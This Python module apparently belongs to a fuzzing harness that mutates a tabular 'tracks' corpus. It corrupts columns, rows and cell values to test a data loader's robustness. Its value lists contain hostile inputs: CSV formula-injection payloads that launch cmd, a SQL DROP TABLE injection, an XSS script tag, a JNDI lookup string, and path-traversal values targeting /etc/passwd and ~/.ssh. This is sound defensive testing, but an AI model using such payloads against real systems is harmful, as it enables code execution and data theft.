"""A corpus before it is written, and what can be done to its columns and cells."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    Mutation = Callable[["Draft", Random], None]

WORDS = (
    "", " ", "abc", "NaN", "nan", "inf", "-Infinity", "1e999", "-1e999", "1e308", "1e-400", "9" * 400, "0x10", "١٢",
    "TRUE", "None", "null", "NULL", "[]", "{}", "{'a': 1}", "['A", "[\"A\", 'B']", "1,5", "1.5.5", "-0", "50%", " 50 ",
    "\u202e", "2020-13-45", "0000-00-00", "00:61:99", "99999999999999999999", "-1", "101", "1_000", "½", "1\u00a0000",
    "\ufeff50", "\ufffd", "\U0001f3b5", "a\u0301", "\x1b[31mred", "\x07", "5e1", "+50", "50.", ".5", "\u066b5", "C#", "4-Apr",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", '=HYPERLINK("http://x.invalid","y")',
    "<script>alert(1)</script>", "'; DROP TABLE tracks; --", "{{7*7}}", "${jndi:ldap://x.invalid}", "%s%n%x", "\\x00",
)  # fmt: skip
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\boot.ini",
    "C:\\CON",
    "~/.ssh",
    "file:///etc/passwd",
    ".",
    "..",
    "a/b",
)
BREAKS = (
    '"', '""', "'", "\\", '\\"', "\n", "\r", "\r\n", '"\n"\n"', ',"', '",', '"a"b', "a\nb\nc", "\n" * 50, '"' * 51,
    "a,b;c\td|e", "\u2028", "\x85", "\x0b", "\x0c", "\x1c",
)  # fmt: skip
NAMES = (
    "", " ", "Popularity", "popularity ", "POPULARITY", "artist", "artists", "track_artist", "name", "id", "index",
    "Unnamed: 0", "../../etc/passwd", "=cmd|x", "\0", "a\nb", "x" * 5_000, "популярность", "\ufeffartists", "1", "50", "{", "[",
    "track_popularity", "streams", "followers", "playlist_name", "genre", "genres", "duration", "duration_min", '"', "'",
)  # fmt: skip


@dataclass
class Draft:
    """A corpus that is to be written.

    Parameters
    ----------
    header : list of str
    rows : list of list of str
        Not necessarily as long as the header.
    form : {"csv", "jsonl", "array", "parquet"}
    delimiter, line_end, encoding : str
        For text.
    quoting : int
        As Python's csv module has it.
    name : str
        Of the file, without its ending.
    ending : str, optional
        Instead of the right one.
    pack : str
        What it is packed in; empty for nothing.
    text : list of callable
        What is done to the text, before it is encoded.
    raw : list of callable
        What is done to the bytes, before they are packed.
    packed : list of callable
        What is done to the bytes that were packed.
    several : int
        In how many files it lies, each with some rows of the others.
    """

    header: list[str]
    rows: list[list[str]]
    form: str = "csv"
    delimiter: str = ","
    line_end: str = "\n"
    encoding: str = "utf-8"
    quoting: int = 0
    name: str = "tracks"
    ending: str | None = None
    pack: str = ""
    several: int = 1
    text: list[Callable[[str, Random], str]] = field(default_factory=list)
    raw: list[Callable[[bytes, Random], bytes]] = field(default_factory=list)
    packed: list[Callable[[bytes, Random], bytes]] = field(default_factory=list)
    parameters: dict[str, Any] = field(default_factory=dict)


def _some_cells(draft: Draft, random: Random, share: float | None = None) -> list[tuple[list[str], int]]:
    """Return places of cells: in one column, one row, or anywhere."""
    everywhere = [(row, position) for row in draft.rows for position in range(len(row))]
    if not everywhere:
        return []
    how = random.randrange(3)
    row, column = random.choice(everywhere)
    if how == 0 and share is None:
        return [(row, position) for row, position in everywhere if position == column]
    if how == 1 and share is None:
        return [(row, position) for position in range(len(row))]
    return random.sample(everywhere, max(1, int(len(everywhere) * (share or random.choice((0.0, 0.02, 0.3))))))


def _put(values: tuple[str, ...]) -> Mutation:
    def put(draft: Draft, random: Random) -> None:
        same = random.choice(values) if random.random() < 0.4 else None
        for row, position in _some_cells(draft, random):
            row[position] = same if same is not None else random.choice(values)

    return put


def _insert(values: tuple[str, ...]) -> Mutation:
    def insert(draft: Draft, random: Random) -> None:
        for row, position in _some_cells(draft, random):
            at = random.randint(0, len(row[position]))
            row[position] = row[position][:at] + random.choice(values) + row[position][at:]

    return insert


def _swap_columns(draft: Draft, random: Random) -> None:
    """Swap the names of two columns, or their cells, or a row's."""
    if len(draft.header) < 2:
        return
    one, other = random.sample(range(len(draft.header)), 2)
    lines = random.choice(([draft.header], draft.rows, [draft.header, *draft.rows], draft.rows[:1]))
    for line in lines:
        if max(one, other) < len(line):
            line[one], line[other] = line[other], line[one]


def _duplicate_column(draft: Draft, random: Random) -> None:
    at = random.randrange(len(draft.header) or 1)
    new = random.random() < 0.5
    for line in (draft.header, *draft.rows):
        if at < len(line):
            cell = line[at] if line is draft.header or not new else random.choice(WORDS)
            line.insert(random.choice((at, at, len(line))) if line is draft.header else at, cell)


def _drop_column(draft: Draft, random: Random) -> None:
    for _ in range(random.choice((1, 1, 1, 3, len(draft.header) - 1))):
        at = random.randrange(len(draft.header) or 1)
        for line in (draft.header, *draft.rows):
            if at < len(line):
                del line[at]


def _rename_column(draft: Draft, random: Random) -> None:
    for _ in range(random.choice((1, 1, 2, 20))):
        if draft.header:
            draft.header[random.randrange(len(draft.header))] = random.choice(NAMES)


def _shuffle_columns(draft: Draft, random: Random) -> None:
    order = random.sample(range(len(draft.header)), len(draft.header))
    for line in (draft.header, *draft.rows):
        if len(line) == len(order):
            line[:] = [line[at] for at in order]


def _ragged(draft: Draft, random: Random) -> None:
    for row in random.sample(draft.rows, min(len(draft.rows), random.choice((1, 3, len(draft.rows))))):
        if random.random() < 0.5:
            row[random.randint(0, len(row)) :] = []
        else:
            row.extend(random.choices(WORDS, k=random.choice((1, 2, 30))))


def _huge_fields(draft: Draft, random: Random) -> None:
    size = random.choice((10_000, 100_000, 100_000, 1_100_000, 1_100_000, 9_000_000))
    for row, position in _some_cells(draft, random, 1e-9):
        row[position] = random.choice(("x", "9", "é", "a;", " ", '"', "\n", "['a', ")) * (size // 2)


def _repeated_rows(draft: Draft, random: Random) -> None:
    for row in random.choices(draft.rows, k=random.choice((1, 5, 50))) if draft.rows else ():
        again = list(row)
        if random.random() < 0.5 and again:
            again[random.randrange(len(again))] = random.choice(("0", "100", "", "pop", "99.5"))
        draft.rows.insert(random.randint(0, len(draft.rows)), again)


def _few_rows(draft: Draft, random: Random) -> None:
    draft.rows[random.choice((0, 0, 1, 2)) :] = []
    if random.random() < 0.2:
        draft.header.clear()


def _many_columns(draft: Draft, random: Random) -> None:
    count = random.choices((300, 9_900, 10_100, 50_000, 1_000_000), (4, 2, 2, 1, 0.3))[0]
    draft.rows[random.choice((1, 3)) :] = []
    filler = random.choice(("", "x", "0"))
    draft.header += [filler and f"c{number}" for number in range(count)]
    for row in draft.rows:
        row.extend([filler] * count)


def _blank_rows(draft: Draft, random: Random) -> None:
    for _ in range(random.choice((1, 5))):
        row = random.choice(([], [""], [" "], [""] * len(draft.header)))
        draft.rows.insert(random.choice((0, len(draft.rows), random.randint(0, len(draft.rows)))), list(row))


def _deep_cells(draft: Draft, random: Random) -> None:
    """Put lists in lists, as text; JSON has them as values."""
    depth = random.choice((2, 50, 900, 5_000, 100_000))
    deep = random.choice(("[" * depth + "]" * depth, "[" * depth, '{"a":' * min(depth, 5_000), json.dumps([[["a"]]])))
    for row, position in _some_cells(draft, random, 1e-9):
        row[position] = deep


TABLE_MUTATIONS: dict[str, Mutation] = {
    "swapped columns": _swap_columns,
    "duplicated columns": _duplicate_column,
    "dropped columns": _drop_column,
    "renamed columns": _rename_column,
    "shuffled columns": _shuffle_columns,
    "wrong types": _put(WORDS),
    "huge fields": _huge_fields,
    "NUL bytes": _insert(("\0", "\0\0\0")),
    "formulas": _put(FORMULAS),
    "path-like names": _put(PATHS),
    "quotes and line ends": _insert(BREAKS),
    "ragged rows": _ragged,
    "repeated rows": _repeated_rows,
    "few rows": _few_rows,
    "many columns": _many_columns,
    "blank rows": _blank_rows,
    "deep cells": _deep_cells,
}
